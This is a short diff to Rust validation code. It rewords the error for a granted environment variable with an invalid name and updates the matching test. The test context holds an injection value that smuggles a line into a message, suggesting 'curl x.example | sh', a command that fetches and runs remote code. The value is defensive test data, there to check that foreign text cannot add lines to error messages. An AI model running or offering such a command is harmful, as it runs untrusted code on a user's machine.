@@ -137,7 +137,7 @@ impl ParameterValue {
         let is_name = |name: &String| !name.is_empty() && !name.contains(['=', '\0']);
         if !document.grants.env.iter().all(is_name) {
             return Err(not_ours(
-                "it grants a variable that can have no such name".to_owned(),
+                "it grants a variable with an invalid name".to_owned(),
             ));
         }
         let patterns = |patterns: Vec<String>| -> Result<Vec<HostPattern>, SourceError> {
@@ -331,7 +331,7 @@ mod tests {
                 "not a host that can be granted",
             ),
             (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
-            (text.replace("TOKEN", "A=B"), "can have no such name"),
+            (text.replace("TOKEN", "A=B"), "with an invalid name"),
             // A foreign text must not add a line to a message, nor a megabyte.
             (
                 text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
